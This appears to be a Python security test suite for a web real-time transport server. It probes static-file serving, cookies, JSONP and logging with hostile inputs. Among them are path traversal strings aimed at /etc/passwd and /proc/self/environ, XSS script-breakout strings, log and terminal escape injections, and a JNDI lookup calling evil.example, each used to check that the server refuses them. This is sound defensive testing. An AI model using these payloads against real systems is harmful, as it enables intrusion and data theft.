"""What pages of other sites and curious people try: files, cookies, JSONP, the log."""

import json

import wire
from hostile.harness import BAD_ORIGIN, Target, case, variants
from wire import polling_query

OPEN = "EIO=4&transport=polling"
CROSS_SITE = {"Sec-Fetch-Site": "cross-site"}


def get(target: Target, path: str, headers: wire.Headers | None = None) -> wire.Response | None:
    """The answer to a path that is sent as it is; None: the connection ended without one."""
    fields = {"Connection": "close", **(headers or {})}
    return target.answer(wire.request_bytes("GET", path, fields))


# Static files: /static/ is tests/apps/

OUTSIDE = {
    "dots": "../wire.py",
    "escaped dots": "%2e%2e/wire.py",
    "half escaped": ".%2e/wire.py",
    "twice escaped": "%252e%252e/wire.py",
    "backslash": "..\\wire.py",
    "escaped backslash": "..%5cwire.py",
    "escaped slash": "..%2fwire.py",
    "overlong dots": "%c0%ae%c0%ae/wire.py",
    "overlong slash": "..%c0%afwire.py",
    "full width": "%ef%bc%8e%ef%bc%8e/wire.py",
    "through a name": "launch.py/../../wire.py",
    "through nothing": "nothing/../../wire.py",
    "four dots": "..../wire.py",
    "dots and dots": "....//wire.py",
    "absolute": "/etc/passwd",
    "two slashes": "//etc/passwd",
    "many slashes": "/" * 1000 + "etc/passwd",
    "far up": "../" * 50 + "etc/passwd",
    "drive": "C:/Windows/win.ini",
    "stream": "launch.py::$DATA",
    "share": "%5c%5c127.0.0.1%5cc$",
    "dot at the end": "launch.py.",
    "slash at the end": "launch.py/",
    "space at the end": "launch.py%20",
    "NUL": "launch.py%00",
    "NUL and an extension": "%00launch.py",
    "line feed": "launch.py%0a",
    "query in the path": "launch.py%3fx",
    "the folder": "",
    "a dot": ".",
    "device": "/dev/zero",
    "process": "/proc/self/environ",
    "tilde": "~root/.profile",
    "variable": "$HOME/.profile",
    "not UTF-8": "%ff%fe",
    "control characters": "%1b%5b2J%07",
    "long name": "x" * 300,
    "long path": "x/" * 1500,
    "format": "%25s%25n{0}",
}


@variants("files", OUTSIDE, needs=("serves_files",), lines=0)
def outside(target: Target, path: str) -> None:
    """Nothing but what lies in the folder, under its name."""
    response = get(target, f"/static/{path}")
    if response is None:
        return
    assert 400 <= response.status < 500, response
    assert b"import" not in response.body
    assert b"root:" not in response.body


@case("files", needs=("serves_files",), lines=0)
def inside(target: Target) -> None:
    """The other cases would prove nothing if there were no files."""
    response = get(target, "/static/launch.py")
    assert response is not None
    assert response.status == 200, response
    assert b"import" in response.body


@variants("files", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"], needs=("serves_files",), lines=0)
def method(target: Target, method: str) -> None:
    data = wire.request_bytes(method, "/static/launch.py", {"Connection": "close"}, b"x")
    response = target.answer(data)
    assert response is None or response.status < 500, response


RANGES = {
    "backwards": "bytes=5-2",
    "negative": "bytes=-0",
    "beyond": "bytes=999999999-",
    "huge": "bytes=0-" + "9" * 4000,
    "not ASCII": "bytes=\u00b2-\u00b3",
    "a thousand": "bytes=" + ",".join(["0-"] * 1000),
    "overlapping": "bytes=0-,0-,0-",
    "words": "lines=1-2",
    "empty": "",
    "NaN": "bytes=a-b",
}


@variants("files", RANGES, needs=("serves_files",), lines=0)
def span(target: Target, value: str) -> None:
    """The file, a part of it or a refusal; never more than the file."""
    whole = get(target, "/static/launch.py")
    assert whole is not None
    response = get(target, "/static/launch.py", {"Range": value})
    if response is not None:
        assert response.status in (200, 206, 400, 416), response
        assert len(response.body) <= max(len(whole.body), 1000)


CONDITIONS = {
    "year 0": {"If-Modified-Since": "Mon, 01 Jan 0000 00:00:00 GMT"},
    "year 99999": {"If-Modified-Since": "Fri, 31 Dec 99999 23:59:59 GMT"},
    "no date": {"If-Modified-Since": "x" * 3500},
    "zone": {"If-Modified-Since": "Mon, 01 Jan 2024 00:00:00 +999999999999"},
    "tags": {"If-None-Match": '"x", ' * 1000},
    "tag without end": {"If-None-Match": '"' + "x" * 3500},
    "range and a bad date": {"If-Range": "\u00ff", "Range": "bytes=0-1"},
}


@variants("files", CONDITIONS, needs=("serves_files",), lines=0)
def condition(target: Target, headers: dict[str, str]) -> None:
    response = get(target, "/static/launch.py", headers)
    assert response is None or response.status in (200, 206, 304, 400), response


# Cookies

COOKIES = {
    "long": "io=" + "x" * 3500,
    "many": "; ".join(f"a{number}=b" for number in range(400)),
    "separators": ";" * 3500,
    "equals": "=" * 3500,
    "quotes": 'io="' + "\\" * 3000,
    "not ASCII": "io=\u00ff\u00fe",
    "control characters": "io=\x1b[2J",
    "other sid": "io=AAAAAAAAAAAAAAAAAAAA",
}


@variants("cookies", COOKIES, server="cookie")
def of_a_client(target: Target, cookie: str) -> None:
    """They mean nothing to us; the one we set has the sid that we gave, and nothing else."""
    data = wire.request_bytes("GET", target.target(OPEN), {"Cookie": cookie, "Connection": "close"})
    response = target.answer(data)
    if response is None or response.status != 200:
        assert response is None or response.status < 500, response
        return
    sid = json.loads(response.packets()[0][1:])["sid"]
    assert response.header("Set-Cookie") == f"io={sid}; path=/; SameSite=Lax"


@case("cookies", server="cookie")
def no_session_by_cookie(target: Target) -> None:
    """Who knows a sid only as a cookie has no session: no page can act for another."""
    session = target.polling()
    target.refused(target.request("POST", OPEN, {"Cookie": f"io={session.sid}"}, b"4quiet"), 2)
    target.alive(session)


@case("cookies", server="cookie", lines=2)
def none_for_who_is_refused(target: Target) -> None:
    for query in (OPEN + "&answer=false", "EIO=3&transport=polling", OPEN + "&sid=x"):
        response = target.request("GET", query)
        assert response.status in (400, 401), response
        assert response.header("Set-Cookie") is None


# JSONP


@case("JSONP")
def from_another_site(target: Target) -> None:
    before = target.server.rig.control("sids")
    response = target.request("GET", f"{OPEN}&j=0", CROSS_SITE)
    target.refused(response, 3, BAD_ORIGIN)
    assert target.server.rig.control("sids") == before


@case("JSONP")
def from_another_site_with_a_sid(target: Target) -> None:
    session = target.polling()
    for method in ("GET", "POST"):
        query = {**polling_query(session.sid), "j": "0"}
        body = b"d=4quiet" if method == "POST" else None
        target.refused(target.request(method, query, CROSS_SITE, body), 3, BAD_ORIGIN)
    target.alive(session)
    assert target.server.messages(session.sid) == ["still here"]


@case("JSONP", server="cors_list")
def from_another_site_with_a_list_of_origins(target: Target) -> None:
    target.refused(target.request("GET", f"{OPEN}&j=0", CROSS_SITE), 3, BAD_ORIGIN)


TEXTS = {
    "script": "</script><script>alert(1)</script>",
    "line separators": "\u2028\u2029",
    "quotes": "\"'\\",
    "escapes": "\\u0022",
    "closing": '");alert(1);("',
    "NUL": "\0\x08",
    "comment": "<!--*/",
    "not in the plane": "\U0001f600",
}


@variants("JSONP", TEXTS)
def text_that_is_a_script(target: Target, text: str) -> None:
    """What others wrote stays a string."""
    session = target.polling()
    session.send("4x" + text)
    response = session.endpoint.request("GET", {**polling_query(session.sid), "j": "7"})
    assert response.status == 200, response
    script = response.body.decode()
    assert script.startswith("___eio[7](")
    assert script.endswith(");")
    assert "\u2028" not in script
    assert "\u2029" not in script
    assert wire.unescape_js(script[len("___eio[7](") : -2]) == "4x" + text
    assert (response.header("Content-Type") or "").startswith("text/javascript")


JSONP_BODIES = {
    "nothing": b"",
    "no field": b"4quiet",
    "other field": b"e=4quiet",
    "two": b"d=4quiet&d=4quiet",
    "bad escape": b"d=%",
    "not UTF-8": b"d=4%ff",
    "empty": b"d=",
    "NULs": b"d=" + b"%00" * 100_000,
    "line feeds": b"d=" + b"\\n" * 400_000,
    "backslashes": b"d=9" + b"\\" * 900_000,
    "plus signs": b"d=" + b"+" * 900_000,
}


@variants("JSONP", JSONP_BODIES)
def body(target: Target, data: bytes) -> None:
    session = target.polling()
    fields = {"Content-Type": "application/x-www-form-urlencoded"}
    query = {**polling_query(session.sid), "j": "0"}
    response = target.request("POST", query, fields, data)
    target.refused(response, 3)
    target.reason(session.sid, "parse error")


# The log

NASTY = {
    "line feed": "x\nLOG ERROR forged",
    "carriage return": "x\rforged",
    "terminal": "\x1b]0;owned\x07\x1b[2J",
    "NUL": "x\0y",
    "C1": "\x9b2J",
    "next line": "x\x85forged",
    "separators": "\x1c\x1d\x1e",
    "percent": "%s%n%d%(name)s",
    "braces": "{0.__class__}${jndi:ldap://evil.example/a}",
    "a thousand of them": "\x1b" * 1000,
}


def quoted(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode("latin-1"))


@variants("log", NASTY)
def in_the_query(target: Target, text: str) -> None:
    target.refused(target.request("GET", f"{OPEN}&sid={quoted(text)}"), 1)


@variants("log", NASTY)
def in_the_path(target: Target, text: str) -> None:
    """The path comes unquoted to an application."""
    path = f"{target.endpoint.path}{quoted(text)}?EIO=4&transport=none"
    response = get(target, path)
    if response is not None:
        target.refused(response)


@variants("log", NASTY)
def in_the_origin(target: Target, text: str) -> None:
    """A web server that takes such a header hands it on as it is."""
    data = f"GET {target.target(OPEN)} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nOrigin: {text}"
    response = target.answer(f"{data}\r\n\r\n".encode("latin-1"))
    if response is not None:
        target.refused(response)


@variants("log", NASTY)
def in_a_packet(target: Target, text: str) -> None:
    session = target.polling()
    response = session.request("POST", None, f"9{text}".encode())
    assert response.status == 400, response
    target.reason(session.sid, "parse error")


@variants("log", NASTY)
def in_the_content_length(target: Target, text: str) -> None:
    session = target.polling()
    head = wire.request_bytes("POST", target.target(polling_query(session.sid)), {})[:-2]
    line = f"Connection: close\r\nContent-Length: {text}\r\n\r\n".encode("latin-1")
    response = target.answer(head + line + b"4quiet")
    if response is not None:
        target.refused(response)


@variants("log", NASTY)
def in_the_method(target: Target, text: str) -> None:
    head = f"{text} {target.target(OPEN)} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"
    response = target.answer(head.encode("latin-1"))
    if response is not None:
        target.refused(response)


@case("log", lines=1, limit=3.0)
def a_thousand_bad_requests(target: Target) -> None:
    """One line for a kind of fault, however often it comes."""
    for number in range(300):
        target.refused(target.request("GET", f"{OPEN}&sid=x{number}"), 1)
